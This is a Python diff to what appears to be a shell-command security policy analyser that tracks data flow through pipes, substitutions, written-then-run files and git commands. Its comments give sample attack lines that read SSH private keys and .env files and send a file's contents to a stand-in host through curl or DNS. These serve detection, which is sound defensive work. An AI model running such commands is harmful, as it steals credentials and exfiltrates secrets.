@@ -257,6 +257,8 @@ def _reads_only(f: Facts) -> bool:
         and not (f.writes or f.deletes or f.sends or f.scripts or f.argvs)
         and not (f.hidden or f.network or f.downloaded or f.privileged or f.forks)
         and readonly.reads_only(c.name, c.args)
+        # `git log -p`, `git show`, `git diff`: the patches of whatever files changed
+        and not (c.name == "git" and git.prints_contents(c.args))
     )
 
 
@@ -332,6 +334,7 @@ def _dataflow(facts: list[Facts]) -> None:
     created: list[str] = []
     links: dict[str, str] = {}
     written: dict[str, str] = {}  # files this line writes with text it spells out
+    unseen: set[str] = set()  # ... and with text made here that the policy cannot read
     by_pipe: dict[int, list[Facts]] = {}
     for f in facts:
         pipe, _ = f.cmd.pipe
@@ -343,6 +346,7 @@ def _dataflow(facts: list[Facts]) -> None:
         for at, stage in enumerate(stages):
             if _ENVIRON in stage.reads and programs.env_filtered(stage, stages[at + 1 :]):
                 stage.reads = [r for r in stage.reads if r != _ENVIRON]
+        git.pipeline(stages)  # `git archive HEAD | funzip`: every file, printed
     settings: list[str] = []  # `git config KEY VALUE` earlier in the line
     for index, f in enumerate(facts):
         if f.cmd.name == "git" and settings and f.subcommand != "config":
@@ -362,12 +366,28 @@ def _dataflow(facts: list[Facts]) -> None:
             if cmd.pipe[0] and other.cmd.pipe[1] < cmd.pipe[1]
         ]
         listed = [p for u in upstream for p in _listed_by(u)]
+        start, end = cmd.inner
+        inside = facts[start:end] if end > start else []
+        if not upstream and "xargs" in cmd.wrappers:
+            # `xargs -a <(find ~ -name id_rsa) cat`, `xargs cat < <(find ...)`: the
+            # arguments are what the process substitution prints
+            substituted = [i for i in inside if i.cmd.via == "<()"]
+            if any(r.startswith("<") and "$?" in r for r in cmd.redirects):
+                before = index - 1  # (a redirect's substitution comes just before)
+                while before >= 0 and facts[before].cmd.via == "<()":
+                    substituted.append(facts[before])
+                    before -= 1
+            listed = [p for i in substituted for p in _listed_by(i)]
         known = bool(listed) and not any(is_unknown(p) for p in listed)
         programs.xargs_note(f, listed if known else None)
         if f.reads_from_input and upstream and len(upstream) == cmd.pipe[1]:
             text = literal.output_of(sorted((u.cmd for u in upstream), key=lambda c: c.pipe[1]))
             if text is not None:
                 f.read(*text.split())
+        if f.subcommand == "cat-file" and upstream and len(upstream) == cmd.pipe[1]:
+            # `echo HEAD:.env | git cat-file --batch`: the objects its input names
+            ordered = sorted((u.cmd for u in upstream), key=lambda c: c.pipe[1])
+            git.batch_input(f, literal.output_of(ordered))
         # paths through something made earlier in this line: through a link it made,
         # where the link points; through anything else it made, unknown
         if created:
@@ -376,22 +396,28 @@ def _dataflow(facts: list[Facts]) -> None:
             f.writes = [_through_created(p, created, links) for p in f.writes]
             f.deletes = [_through_created(p, created, links) for p in f.deletes]
             f.runs_files = [_through_created(p, created, links) for p in f.runs_files]
-        # a file written in this line with literal text, then run by it
+        # a file written in this line with literal text, then run by it (`sh x`, `./x`)
+        ran_files = {r.lstrip(UNKNOWN) for r in f.runs_files}
         for ran in f.runs_files:
             text = written.get(ran.lstrip(UNKNOWN))
             if text is not None:
                 programs.take_input(f, text, ran)
+        if cmd.argv and "/" in cmd.argv[0] and f.at(cmd.argv[0]) not in ran_files:
+            ran_files.add(f.at(cmd.argv[0]))
+            text = written.get(f.at(cmd.argv[0]))
+            if text is not None:
+                programs.take_input(f, text, f.at(cmd.argv[0]))
+        for ran in ran_files & unseen:
+            f.hide(f"{cmd.name} runs {ran}, written in this line with text the policy cannot see")
         # ... or handed to a program that may run it (`pandoc -L f.lua`, `tshark
         # -Xlua_script:f`, `neofetch --config f`): read as that program's code
         if written and cmd.name not in programs.PASSIVE:
-            ran_files = {r.lstrip(UNKNOWN) for r in f.runs_files}
             for path in _mentioned(f, written):
                 if path not in ran_files:
                     programs.take_file(f, written[path], path)
-        if written and cmd.name in _PROJECT_RUNNERS:
-            for path, text in written.items():
-                if posixpath.basename(path) in _MANIFESTS:
-                    programs.take_manifest(f, text)
+                    ran_files.add(path)
+        if (written or unseen or downloaded_files) and programs.runs_project(f):
+            _project_files(f, written, unseen, downloaded_files, ran_files)
         # code from the pipe: literal text (decoded if need be) is read like any code;
         # code from the network is downloaded code; anything else cannot be seen
         feeds_code = f.runs_stdin or (
@@ -409,8 +435,12 @@ def _dataflow(facts: list[Facts]) -> None:
                 f.hide(f"{cmd.name} runs code from its input, which the policy cannot see")
         elif feeds_code and any(u.network for u in upstream):
             f.downloaded = True
-        start, end = cmd.inner
-        inside = facts[start:end] if end > start else []
+        if inside and any(p.startswith(UNKNOWN) and "$?" in p for p in f.reads):
+            # `grep -r . $(dirname $(find ~ -name id_rsa))`: a path printed by a
+            # substitution that lists files lies below what it lists
+            for lister in inside:
+                if lister.cmd.name in _LISTERS:
+                    f.read_tree(*(p.split("/**", 1)[0] for p in _listed_by(lister)))
         if f.network and f.hosts:
             # `curl "https://x/?d=$(base64 f)"`, `dig $(cat f).x`: what a substitution
             # in its words prints goes out with it
@@ -463,9 +493,20 @@ def _dataflow(facts: list[Facts]) -> None:
         ]
         links.update(f.links)
         text = _literal_output(cmd, upstream)
+        targets = _written_by_redirect(f) + (f.writes if cmd.name == "tee" else [])
         if text is not None:
-            for target in _written_by_redirect(f) + (f.writes if cmd.name == "tee" else []):
+            for target in targets:
                 written[target] = text
+                unseen.discard(target)
+        elif targets and _made_in_line([*upstream, f]):
+            # `echo "$X" > conftest.py`, `python -c '...' > x`: text made here, unread
+            unseen.update(targets)
+            for target in targets:
+                written.pop(target, None)
+        if programs.language_of(cmd.name) and not f.runs_files and f.writes:
+            unseen.update(p for p in f.writes if not is_unknown(p) and p not in written)
+        if cmd.name in _COPIERS and (written or unseen):
+            _copied(f, written, unseen)
 
 
 _ENVIRON = "/proc/self/environ"
@@ -498,6 +539,83 @@ def _mentioned(f: Facts, written: dict[str, str]) -> list[str]:
     return found
 
 
+def _project_files(
+    f: Facts,
+    written: dict[str, str],
+    unseen: set[str],
+    downloaded: set[str],
+    taken: set[str],
+) -> None:
+    """`f` runs a project runner (`programs.runs_project`): the runners' files this
+    line wrote near where it runs are read as the code they are; one written with
+    text nobody can read is code nobody sees; one downloaded is downloaded code."""
+    for path, text in written.items():
+        if path not in taken and programs.runner_file(path) and _near(path, f):
+            taken.add(path)
+            programs.take_runner_file(f, text, path)
+    for path in unseen:
+        if path not in taken and programs.runner_file(path) and _near(path, f):
+            name = posixpath.basename(path)
+            f.hide(f"{f.cmd.name} runs {name}, written in this line with text nobody can read")
+    if any(programs.runner_file(p) and _near(p, f) for p in downloaded if not is_unknown(p)):
+        f.downloaded = True
+
+
+def _near(path: str, f: Facts) -> bool:
+    """A runner in `f.cwd` (or reading a directory, `make -C d`, `pytest d`) loads
+    `path`: it is below one of them, or in a directory above (config found upwards)."""
+    if f.cwd is None:
+        return True
+    directory = posixpath.dirname(path)
+    named = (f.at(a) for a in f.cmd.args if a[:1] in ("/", ".", "~") and UNKNOWN not in a)
+    for place in (f.cwd, *f.reads, *named):
+        place = place.removesuffix("/**").rstrip("/") or "/"
+        if is_unknown(place) or not place.startswith("/"):
+            continue
+        if _below_any(directory, {place}) or _below_any(place, {directory}):
+            return True
+    return False
+
+
+#: Stages whose output is text made in the line (not a file's, read as it is).
+_MAKERS = frozenset({"echo", "printf", "base64", "base32", "xxd", "rev", "tr", "openssl"})
+
+
+def _made_in_line(stages: list[Facts]) -> bool:
+    """The pipeline `stages` (its output not literal) prints text made in the line:
+    `echo "$X"`, `printf`, a here-document with expansions, `python -c`, `sh -c`,
+    a decoder; not a file's content (`cat f`, `git show`: the project's own)."""
+    for stage in stages:
+        cmd = stage.cmd
+        if cmd.name in _MAKERS or cmd.stdin is not None or cmd.name in programs.SHELLS:
+            return True
+        if cmd.name in ("cat", "tee") and not [a for a in cmd.args if not a.startswith("-")]:
+            return True
+        if programs.language_of(cmd.name) and not stage.runs_files:
+            return True
+    return False
+
+
+#: Programs that copy a file's text to another name.
+_COPIERS = frozenset({"cp", "mv", "install", "ln", "rsync", "ditto", "gcp"})
+
+
+def _copied(f: Facts, written: dict[str, str], unseen: set[str]) -> None:
+    """`cp a.py conftest.py` after writing a.py: the copy holds the same text."""
+    sources = [r for r in f.reads if r in written or r in unseen]
+    targets = [w for w in f.writes if not is_unknown(w) and w not in f.reads]
+    for source in sources:
+        for target in targets:
+            if posixpath.basename(target) != posixpath.basename(source) and not (
+                programs.runner_file(target)
+            ):
+                target = target.rstrip("/") + "/" + posixpath.basename(source)
+            if source in written:
+                written[target] = written[source]
+            else:
+                unseen.add(target)
+
+
 def _through_created(path: str, created: list[str], links: dict[str, str]) -> str:
     if is_unknown(path):
         return path
@@ -520,12 +638,8 @@ _PROJECT_RUNNERS = frozenset(
     "npm pnpm yarn bun composer pip pip3 vagrant cmake make gmake rake bundle gradle mvn "
     "python python3 poetry pipx cargo go ant".split()
 )
-#: The manifests they read.
-_MANIFESTS = frozenset(
-    "package.json composer.json setup.py setup.cfg pyproject.toml Vagrantfile Makefile "
-    "makefile GNUmakefile CMakeLists.txt Rakefile Gemfile build.gradle pom.xml "
-    "Cargo.toml build.rs build.xml".split()
-)
+#: Programs that list files (a substitution of one prints paths below what it lists).
+_LISTERS = frozenset({"find", "fd", "fdfind", "locate", "mlocate", "plocate", "ls", "tree", "du"})
 
 
 def _literal_output(cmd: _shell.SimpleCommand, upstream: list[Facts]) -> str | None:
@@ -596,7 +710,7 @@ def _resolve_command(
             )
         found = repos[key]
         if command.name == "git":
-            hidden = hidden or found.reason
+            hidden = hidden or found.reason or git.init_reason(command.args, command.cwd)
             more_reads, more_deletes = git.on_disk(command.args, command.cwd, found, home)
             reads = unique((*reads, *more_reads))
             deletes = unique((*deletes, *more_deletes))
@@ -608,7 +722,8 @@ def _resolve_command(
                     repos[place] = git.inspect(directory, home=home)
                 return repos[place]
 
-            writes = unique((*writes, *git.written_as(writes, found, home, made, lookup)))
+            spelt = git.written_as(writes, found, home, made, lookup, removed=deletes)
+            writes = unique((*writes, *spelt))
     if (reads, lists, writes, deletes, sends, hidden) == (
         command.reads,
         command.lists,
